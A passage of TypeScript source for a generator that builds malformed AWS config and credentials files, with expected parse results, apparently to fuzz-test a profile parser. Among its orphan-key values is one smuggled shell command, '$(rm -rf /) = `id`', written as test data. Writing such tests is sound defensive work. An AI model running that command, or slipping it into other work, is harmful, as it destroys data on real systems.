      }
      for (const line of plan.extraLines.get(file)!) items.splice(r.int(0, items.length), 0, { t: 'line', line });

      const sections = r.chance(0.25) ? r.int(2, 3) : 1;
      if (sections > 1) this.features.add('duplicate-section');
      const cuts = [0];
      for (let i = 1; i < sections; i++) cuts.push(r.int(0, items.length));
      cuts.sort((a, b) => a - b);
      cuts.push(items.length);
      const queue: Block[] = [];
      for (let s = 0; s < sections; s++) {
        const chunk = items.slice(cuts[s], cuts[s + 1]);
        const lines: Line[] = [{ text: this.header(plan, file) }];
        if (r.chance(0.06)) {
          this.features.add('indented-after-header');
          lines.push({
            text: `${r.pick(INDENT)}${r.pick(['dangling text', 'key = value', '[not a header', '-continued'])}`,
            broken: { severity: 'error', why: 'indented line right after a header' },
          });
        }
        const assigns: Assign[] = [];
        for (const it of chunk) {
          if (it.t === 'line') lines.push(it.line);
          else {
            assigns.push(it.a);
            for (const l of this.renderAssign(it.a)) lines.push(l);
          }
        }
        if (chunk.every((it) => it.t !== 'assign')) this.features.add('empty-section');
        queue.push({ lines, profile: { name: plan.name, bare: file === 'config' && plan.name === 'default' && plan.bareDefault, assigns } });
      }
      this.queues[file].push(queue);
    }
  }

  private sep(): string {
    const s = this.r.pick(SEP);
    if (s !== '' && s !== ' ') this.features.add(s.includes('\t') ? 'tab' : 'odd-whitespace');
    return s;
  }

  private trail(allowComment: boolean): string {
    const r = this.r;
    if (!allowComment || r.chance(0.75)) return r.chance(0.8) ? '' : this.sep();
    this.features.add('inline-comment');
    if (this.big(0.2)) {
      return ' # ' + '[x] = y; '.repeat(KB100 / 9);
    }
    return r.pick([' # comment', '\t; comment', '   #', ' ;', ' # [profile not-a-header]', ' ; = still a comment']);
  }

  private renderAssign(a: Assign): Line[] {
    const r = this.r;
    const lines: Line[] = [];
    if (typeof a.value === 'string') {
      const [first, ...more] = a.value.split('\n');
      lines.push({ text: `${a.key}${this.sep()}=${this.sep()}${first}${this.trail(true)}` });
      for (const m of more) lines.push({ text: `${r.pick(INDENT)}${m}${this.trail(false)}` });
      for (const b of a.brokenSubs ?? []) lines.push(b);
      return lines;
    }
    lines.push({ text: `${a.key}${this.sep()}=${this.trail(true)}` });
    const subs = [...a.value];
    const broken: Line[] = [];
    if (r.chance(0.2)) {
      this.features.add('sub-property-broken');
      broken.push(
        r.pick<Line>([
          { text: `${r.pick(INDENT)}no equals here`, broken: { severity: 'error', why: 'sub-property without "="' } },
          { text: `${r.pick(INDENT)}= nameless`, broken: { severity: 'error', why: 'nameless sub-property' } },
          { text: `${r.pick(INDENT)}bad sub = v`, broken: { severity: 'warning', why: 'whitespace in a sub-property name' } },
          { text: `${r.pick(INDENT)}aws_session_token ${this.secret('IQoJ', 100)}==`, broken: { severity: 'warning', why: 'padded token as a sub-property name' } },
        ]),
      );
    }
    const out: Line[] = subs.map(([k, v]) => ({ text: `${r.pick(INDENT)}${k}${this.sep()}=${this.sep()}${v}` }));
    for (const b of broken) out.splice(r.int(0, out.length), 0, b);
    if (r.chance(0.2)) out.splice(r.int(0, out.length), 0, { text: r.pick(BLANKS) });
    return lines.concat(out);
  }

  /** `[default]` in the config file next to `[profile default]`: ignored, with a warning at its header. */
  private addDecoyDefault(): void {
    const plan = this.byName.get('default');
    if (!plan || !plan.files.includes('config') || plan.bareDefault || !this.r.chance(0.6)) return;
    this.features.add('default-decoy');
    const lines: Line[] = [{ text: this.r.pick(['[default]', '[ default ]']), broken: { severity: 'warning', why: '[default] beside [profile default]' } }];
    for (let i = this.r.int(0, 2); i > 0; i--) lines.push({ text: `decoy_${this.uniq++} = ${this.r.pick(VALUES)}` });
    if (this.r.chance(0.3)) lines.push({ text: `region = decoy-region-${this.uniq++}` });
    this.queues.config.push([{ lines }]);
  }

  /** Sections that are valid but no profiles: unknown types, the CLI's own, sso-sessions. */
  private addNoiseSections(): void {
    const r = this.r;
    if (!r.chance(0.25)) return;
    this.features.add('unknown-section');
    const lines: Line[] = [{ text: r.pick(['[foobar custom]', '[plugins]', '[preview]', '[toolkit x]']) }];
    for (let i = r.int(0, 2); i > 0; i--) lines.push({ text: `other_${this.uniq++} = ${r.pick(VALUES)}` });
    this.queues.config.push([{ lines }]);
  }

  /** Lines that valid-looking content follows but that must not reach any profile. */
  private swallowed(): Line[] {
    const r = this.r;
    const lines: Line[] = [];
    for (let i = r.int(0, 2); i > 0; i--) lines.push({ text: `swallowed_${this.uniq++} = ${r.pick(VALUES)}` });
    if (r.chance(0.3)) {
      this.features.add('secret-in-swallowed-section');
      lines.push({ text: `aws_secret_access_key = ${this.secret('Sw', 38)}` });
      lines.push({ text: `region = swallowed-region-${this.uniq++}` });
    }
    if (lines.length && r.chance(0.3)) lines.push({ text: `${r.pick(INDENT)}swallowed continuation` });
    return lines;
  }

  /** A header the reader must report, naming some profile (real, ghost, or fresh); the lines under it are ignored. */
  private brokenHeaderBlock(file: FileSlot): Block {
    const r = this.r;
    const pool = [...this.plans.map((p) => p.name), ...this.ghosts, 'default', r.pick(PLAIN_NAMES), r.pick(SHELL_NAMES), r.pick(EMOJI_NAMES)];
    const name = r.pick(pool);
    const err = (text: string, feature: string): Line => {
      this.features.add(feature);
      return { text, broken: { severity: 'error', why: feature } };
    };
    const warn = (text: string, feature: string): Line => {
      this.features.add(feature);
      return { text, broken: { severity: 'warning', why: feature } };
    };
    let header: Line;
    if (this.r.chance(0.15)) {
      // A key pasted onto or into a header: located, never quoted.
      const secret = r.chance(0.5) ? this.accessKeyId() : this.secret('Hs', 38);
      this.headerSecrets.push(secret);
      this.features.add('secret-in-broken-header');
      const text =
        file === 'config'
          ? r.pick([`[default] ${secret}`, `[profile ${name}] ${secret}`, `[${secret}`, `[profile ${secret}`, `[default]${secret}`])
          : r.pick([`[${name}] ${secret}`, `[${secret}`, `[default] ${secret}`]);
      return { lines: [{ text, broken: { severity: 'error', why: 'secret-in-broken-header' } }, ...this.swallowed()] };
    }
    const big = this.big(0.5);
    const bigName = big ? 'u'.repeat(KB100) : name;
    const invalid = r.pick(INVALID_NAMES);
    if (file === 'config') {
      const options: (() => Line)[] = [
        () => err(`[profile ${bigName}`, 'unterminated-header'),
        () => err(`[sso-session ${bigName}`, 'unterminated-header'),
        () => err(big ? '['.repeat(KB100) : '[', 'unterminated-header'),
        // Not "x]" after the name: "[profile a] x]" ends with "]", so it is a header whose name has whitespace.
        () => err(`[profile ${name}] ${r.pick(['trailing', '= y', 'x', '[x'])}`, 'header-trailing-text'),
        () => err(`[profile ${r.pick(['a#b', 'a;b', '#', ';x'])}]`, 'header-comment-char'),
        () => warn(`[profile ${invalid}]`, 'header-whitespace-name'),
        () => warn(`[profile ${name} extra]`, 'header-whitespace-name'),
        () => warn(`[${name === 'default' || name === 'plugins' || name === 'preview' ? 'x' + name : name}]`, 'config-header-without-prefix'),
        () => warn(r.pick(['[profile]', '[sso-session]', '[services]', '[]', '[ ]', '[default extra]']), 'config-header-without-prefix'),
        () => warn(`[${r.pick(['prfile', 'Profile', 'PROFILE', 'profiles', 'sso_session', 'servics'])} ${name}]`, 'near-miss-section-type'),
        () => warn(`[profile${name}]`, 'config-header-without-prefix'),
      ];
      header = r.pick(options)();
    } else {
      const options: (() => Line)[] = [
        () => err(`[${bigName}`, 'unterminated-header'),
        () => err(big ? '['.repeat(KB100) : '[', 'unterminated-header'),
        () => err(`[${name}] ${r.pick(['trailing', '= y', 'x', '[x'])}`, 'header-trailing-text'),
        () => err(`[${r.pick(['a#b', 'a;b', '#', ';x'])}]`, 'header-comment-char'),
        () => err(`[sso-session ${name}]`, 'sso-session-in-credentials'),
        () => warn(`[profile ${name}]`, 'credentials-header-with-prefix'),
        () => warn(`[services ${name}]`, 'credentials-header-with-prefix'),
        () => warn(`[${invalid}]`, 'header-whitespace-name'),
        () => warn(r.pick(['[]', '[ ]']), 'header-whitespace-name'),
      ];
      header = r.pick(options)();
    }
    return { lines: [header, ...this.swallowed()] };
  }

  // --- rendering -------------------------------------------------------------------------------------------------

  private prelude(): Line[] {
    const r = this.r;
    const lines: Line[] = [];
    for (let i = r.int(0, 2); i > 0; i--) lines.push(this.commentOrBlank());
    if (r.chance(0.25)) {
      // Before any header: keys and lines outside any section. Only the first may be indented (after a reported
      // line, an indented one continues it and is not reported again).
      if (r.chance(0.3)) {
        this.features.add('orphan-indented');
        lines.push({ text: `${r.pick(INDENT)}${r.pick(['indented before any header', 'region = x', '-continued'])}`, broken: { severity: 'error', why: 'indented line outside any section' } });
      }
      for (let i = r.int(1, 3); i > 0; i--) {
        this.features.add('orphan-key');
        const secret = r.chance(0.2) ? this.secret('Or', 38) : undefined;
        if (secret) this.features.add('secret-on-broken-line');
        const text = secret
          ? r.pick([`aws_secret_access_key = ${secret}`, `aws_secret_access_key: ${secret}`, `aws_session_token ${secret}==`])
          : this.big(0.3)
            ? 'o'.repeat(KB100)
            : r.pick(['region = us-east-1', 'orphan words', '= x', 'aws_access_key_id=AKIDEXAMPLE', '$(rm -rf /) = `id`']);
        lines.push({ text, broken: { severity: 'error', why: 'outside any section' } });
        if (r.chance(0.3)) lines.push(this.commentOrBlank());
      }
    }
    return lines;
  }

  private renderFile(file: FileSlot): { text: string; lines: Line[]; count: number } {
    const r = this.r;
    const lines: Line[] = this.prelude();
    // Interleave the queues at random, keeping each queue's order (a profile's sections, stale before final).
    const queues = this.queues[file].map((q) => [...q]).filter((q) => q.length);
    while (queues.length) {
      const qi = r.int(0, queues.length - 1);
      const block = queues[qi].shift()!;
      if (!queues[qi].length) queues.splice(qi, 1);
      if (r.chance(0.3)) lines.push(this.commentOrBlank());
      block.lines.forEach((l, i) => {
        if (i === 0 && block.profile) this.headerLines.set(l, { file, block });
        lines.push(l);
      });
    }
    for (const l of lines) {
      if (/[\r\n]/.test(l.text)) throw new Error(`generator bug: a line contains a line break: ${JSON.stringify(l.text.slice(0, 80))}`);
    }

    const style = r.pick(['lf', 'crlf', 'cr', 'mixed'] as const);
    this.features.add(`eol:${style}`);
    const bom = r.chance(0.2);
    if (bom) this.features.add('bom');
    let text = bom ? '\ufeff' : '';
    let prev = '';
    lines.forEach((l, i) => {
      let eol = style === 'lf' ? '\n' : style === 'crlf' ? '\r\n' : style === 'cr' ? '\r' : r.pick(['\n', '\r\n', '\r']);
      // "\r" then an empty line ending in "\n" would read as one "\r\n": keep the line count the model knows.
      if (prev === '\r' && l.text === '' && eol === '\n') eol = '\r\n';
      if (i === lines.length - 1 && r.chance(0.3)) eol = '';
      text += l.text + eol;
      prev = eol;
    });
    const count = text.split(/\r\n|\r|\n/).length;
    const expectedCount = lines.length + (lines.length && prev !== '' ? 1 : 0) + (lines.length ? 0 : 1);
    if (count !== expectedCount) throw new Error(`generator bug: ${count} lines rendered, ${expectedCount} modelled`);
    this.rendered.set(file, lines);
    return { text, lines, count };
  }

  private readonly headerLines = new Map<Line, { file: FileSlot; block: Block }>();
  private readonly rendered = new Map<FileSlot, Line[]>();

  // --- expectations ----------------------------------------------------------------------------------------------

  private expect(rendered: Record<FileSlot, { lines: Line[] }>, paths: Record<FileSlot, string>): Map<string, ExpectedProfile> {
    // Replay the model's sections in file order, with the specification's merge rules.
    const perFile: Record<FileSlot, Map<string, Map<string, Value>>> = { config: new Map(), credentials: new Map() };
    const locations = new Map<string, { file: string; line: number }[]>();
    const bareDefault = { props: new Map<string, Value>(), locations: [] as { file: string; line: number }[], seen: false };
    let prefixedDefault = false;
    for (const file of ['config', 'credentials'] as const) {
      rendered[file].lines.forEach((l, i) => {
        const h = this.headerLines.get(l);
        if (!h) return;
        const p = h.block.profile!;
        const loc = { file: paths[file], line: i + 1 };
        let props: Map<string, Value>;
        if (p.bare) {
          bareDefault.seen = true;
          bareDefault.locations.push(loc);
          props = bareDefault.props;
        } else {
          if (file === 'config' && p.name === 'default') prefixedDefault = true;
          props = perFile[file].get(p.name) ?? new Map();
          perFile[file].set(p.name, props);
          const locs = locations.get(p.name) ?? [];
          locations.set(p.name, locs);
          locs.push(loc);
        }
        for (const a of p.assigns) props.set(a.key, a.value);
      });
      if (file === 'config' && bareDefault.seen && !prefixedDefault) {
        perFile.config.set('default', bareDefault.props);
        locations.set('default', [...bareDefault.locations, ...(locations.get('default') ?? [])]);
      }
    }

    const out = new Map<string, ExpectedProfile>();
    for (const plan of this.plans) {
      const merged = new Map<string, Value>([...(perFile.config.get(plan.name) ?? new Map<string, Value>())]);
      for (const [k, v] of perFile.credentials.get(plan.name) ?? new Map<string, Value>()) merged.set(k, v);
      const properties = new Map<string, string>();
      const subProperties = new Map<string, Map<string, string>>();
      for (const [k, v] of merged) {
        if (typeof v === 'string') properties.set(k, v);
        else subProperties.set(k, v);
      }
      const str = (k: string): string | undefined => {
        const v = properties.get(k);
        return v === undefined || v === '' ? undefined : v;
      };
      // Sanity of the generator: what decides kind and chain survived the merge as planned.
      if (plan.source !== undefined && str('source_profile') !== plan.source) throw new Error(`generator bug: source_profile of ${plan.name}`);
      const kind: ProfileKind = {
        plain: 'none',
        static: 'static',
        selfStatic: 'assume-role',
        roleOk: 'assume-role',
        process: 'process',
        sso: 'sso',
        ssoMissing: 'sso',
        cycle: 'assume-role',
        cycleTail: 'assume-role',
        missing: 'assume-role',
        staticRole: 'assume-role',
        partial: 'none',
        roleNoSource: 'none',
        bothSources: 'assume-role',
        credSource: 'assume-role',
      }[plan.role] as ProfileKind;
      const { chain, interactive, base, hopCount, problem } = this.resolveLikeJsSdk(plan);
      out.set(plan.name, {
        name: plan.name,
        role: plan.role,
        properties,
        subProperties,
        problems: problem ? [problem] : [],
        model: {
          name: plan.name,
          kind,
          region: str('region'),
          roleArn: str('role_arn'),
          sourceProfile: str('source_profile'),
          mfaSerial: str('mfa_serial'),
          externalId: str('external_id'),
          ssoSession: str('sso_session'),
          ssoStartUrl: plan.ssoSession ? this.ssoSessions.get(plan.ssoSession) : undefined,
          endpointUrl: str('endpoint_url'),
          declaredAccountId: plan.account,
          hasStaticKeys: plan.role === 'static' || plan.role === 'selfStatic' || plan.role === 'staticRole',
          hasSessionToken: plan.token,
          interactive,
          serviceEndpoints: plan.serviceEndpoints,
          chain,
          base,
          hopCount,
          locations: locations.get(plan.name) ?? [],
        },
      });
    }
    return out;
  }

  /**
   * What the AWS SDK for JavaScript does with a plan as the selected profile, by a plain transcription of its
   * `resolveProfileData` (@aws-sdk/credential-provider-ini): the profiles it reads in order, whether anything on the
   * way prompts or runs a program, where the base credentials come from and how many roles are assumed, or the
   * problem the model must report. Recursive and quadratic: the oracle for the model's linear walk, on small graphs.
   */
  private resolveLikeJsSdk(selected: Plan): { chain: string[]; interactive: boolean; base: string | undefined; hopCount: number; problem: ExpectedProblem | undefined } {
    const chain: string[] = [];
    let interactive = false;
    let hopCount = 0;
    const named = (at: string): string[] => (at !== selected.name && at.length <= 80 ? [`"${at}"`] : []);
    const isStatic = (p: Plan): boolean => p.role === 'static' || p.role === 'selfStatic' || p.role === 'staticRole';
    const assumesFromSource = (p: Plan): boolean => ['selfStatic', 'roleOk', 'cycle', 'cycleTail', 'missing', 'staticRole'].includes(p.role);
    type Result = { base: string } | { problem: ExpectedProblem | undefined };
    const visit = (name: string, visited: Set<string>, first: boolean): Result => {
      chain.push(name);
      const p = this.byName.get(name);
      if (!p) return { problem: { includes: [`"${name}"`, 'not defined'] } };
      if (!first && isStatic(p)) return { base: name };
      if (assumesFromSource(p)) {
        interactive ||= p.mfa;
        hopCount++;
        if (visited.has(p.source!)) return { problem: { includes: ['cycle'] } };
        return visit(p.source!, new Set([...visited, p.source!]), false);
      }
      if (p.role === 'credSource') {
        hopCount++;
        return { base: name };
      }
      if (isStatic(p)) return { base: name };
      if (p.role === 'process') {
        interactive = true;
        return { base: name };
      }
      if (p.role === 'sso' || p.role === 'ssoMissing') {
        interactive = true;
        return p.role === 'sso' ? { base: name } : { problem: { includes: [`sso_session "${p.ssoSession!}"`] } };
      }
      if (p.role === 'bothSources') return { problem: { includes: [...named(name), 'both source_profile and credential_source'] } };
      if (p.role === 'roleNoSource') return { problem: { includes: [...named(name), 'neither source_profile nor credential_source'] } };
      if (p.role === 'partial') {
        return { problem: { includes: [...named(name), p.partialKey === 'aws_access_key_id' ? 'no aws_secret_access_key' : 'no aws_access_key_id'] } };
      }
      // A profile of settings only: no credentials, which is a problem only for a role that relies on it.
      return { problem: first ? undefined : { includes: [...named(name), 'has no credentials'] } };
    };
    const result = visit(selected.name, new Set(), true);
    if ('base' in result) return { chain, interactive, base: result.base, hopCount, problem: undefined };
    return { chain, interactive, base: undefined, hopCount: 0, problem: result.problem };
  }
}

/** Case `index` of the run seeded with `seed`: the same pair of files and the same expectations every time. */
export function generateCase(seed: number, index: number): HostileCase {
  return new Builder(seed, index).build();
}
